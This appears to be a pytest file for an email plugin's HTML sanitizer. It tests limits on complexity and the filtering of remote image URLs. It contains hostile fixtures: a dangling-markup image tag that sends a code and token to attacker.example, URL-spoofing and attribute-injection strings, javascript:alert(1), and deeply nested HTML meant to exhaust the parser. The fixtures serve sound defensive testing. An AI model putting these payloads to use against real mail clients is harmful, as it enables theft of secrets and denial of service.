"""Hostile HTML past the sanitizer: bounded rendering (shown as text, with a reason) and
remote image URLs that must parse cleanly before "Show images" may fetch them."""

from __future__ import annotations

import pytest

from plugin.mail import sanitize
from plugin.mail.sanitize import check_complexity, clean_remote_url, sanitize_html


def test_200000_nested_divs_are_answered_as_text_with_a_reason():
    evil = "<div>" * 200_000 + "secret words" + "</div>" * 200_000
    assert len(evil) > 2_200_000
    result = sanitize_html(evil, allow_remote=True)
    assert result.too_complex and "shown as text" in result.too_complex
    assert result.too_complex in result.html.replace("&#x27;", "'")
    assert "secret words" in result.html and "<div>" not in result.html


def test_deep_nesting_under_the_size_limit_is_shown_as_text_saying_why():
    evil = "<div>" * 5_000 + "hello" + "</div>" * 5_000  # 55 kB: small, but 1.6 s to parse
    result = sanitize_html(evil)
    assert "nested too deeply" in result.too_complex
    assert "hello" in result.html


@pytest.mark.parametrize(("evil", "words"), [
    ("<p>" + "<b><i>x" * 600, "nested too deeply"),
    ("<span>a</span>" * (sanitize.MAX_TAGS // 2 + 1), "too many HTML elements"),
    ("x &amp; " * (sanitize.MAX_RUN_ENTITIES + 1), "cannot show quickly"),
    ("<p>" + "a" * (sanitize.MAX_HTML_CHARS + 1), "too large"),
])
def test_each_limit_gives_its_own_sentence(evil, words):
    with pytest.raises(sanitize.TooComplex) as info:
        check_complexity(evil)
    assert words in info.value.sentence
    assert sanitize_html(evil).too_complex == info.value.sentence


def test_the_text_part_is_shown_when_given():
    evil = "<div>" * 1_000 + "html words"
    result = sanitize_html(evil, fallback_text="the <text> part")
    assert "the &lt;text&gt; part" in result.html and "html words" not in result.html


def test_fallback_of_unclosed_tags_is_linear_and_escaped():
    evil = "<" * 300_000 + "<script>alert(1)</script>" + "<div>" * 1_000
    result = sanitize_html(evil)
    assert result.too_complex and "<script" not in result.html


def test_ordinary_nested_newsletter_is_still_formatted():
    row = ('<tr><td><table width="100%"><tr><td><p>Item <b>bold</b> '
           '<a href="https://shop.example/x">link</a> &amp; more</p></td></tr></table></td></tr>')
    letter = "<table>" * 30 + "<tbody>" + row * 1_500 + "</tbody>" + "</table>" * 30
    assert 150_000 < len(letter) < 250_000
    result = sanitize_html(letter)
    assert result.too_complex is None
    assert "<table" in result.html and "<b>bold</b>" in result.html


GOOD = ["https://cdn.example.com/a.png", "http://img.example.org:8080/p/x.gif?a=1&b=%20",
        "https://[2001:db8::1]/x.png", "HTTPS://Example.COM/Logo.PNG"]
BAD = [
    "https://attacker.example/?%20code=734219 token=SECRET-abc123",   # dangling markup
    "https://attacker.example/?\ncode=734219<p>token",
    "https://trusted.example.com@attacker.example/x.png",           # credentials
    "https://user:pw@cdn.example.com/x.png",
    "https://cdn.example.com/a b.png", "https://cdn.example.com/a\tb.png",
    "https://cdn.example.com/x.png\"onerror=\"x", "https://cdn.example.com/x'y.png",
    "https://cdn.example.com/<x>.png", "https://cdn.example.com\\@attacker/x.png",
    "https://cdn.example.com/\u202ex.png", "https://cdn.example.com/\u200bx.png",
    "https:/cdn.example.com/x.png", "https:cdn.example.com/x.png", "https:///x.png",
    "https://cdn.example.com:99999/x.png", "https://[::1/x.png", "javascript:alert(1)",
    "ftp://cdn.example.com/x.png", "https://cdn.exa_mple.com/x.png", "//cdn.example.com/x",
]


@pytest.mark.parametrize("url", GOOD)
def test_clean_remote_urls_are_kept(url):
    assert clean_remote_url(url)
    out = sanitize_html(f'<img src="{url}">', allow_remote=True).html
    assert "<img" in out and "src=" in out


@pytest.mark.parametrize("url", BAD)
def test_unclean_remote_urls_are_dropped(url):
    assert not clean_remote_url(url)


def test_dangling_markup_image_does_not_carry_the_following_text():
    evil = ('<p>Hello</p><img src="https://attacker.example/collect?\n'
            '<p>Your code is 734219</p><p>token=SECRET-abc123</p>">')
    out = sanitize_html(evil, allow_remote=True).html
    assert "attacker.example" not in out
    for url in BAD[:4]:
        out = sanitize_html(f"<img src='{url}'>", allow_remote=True).html
        assert "src=" not in out, url
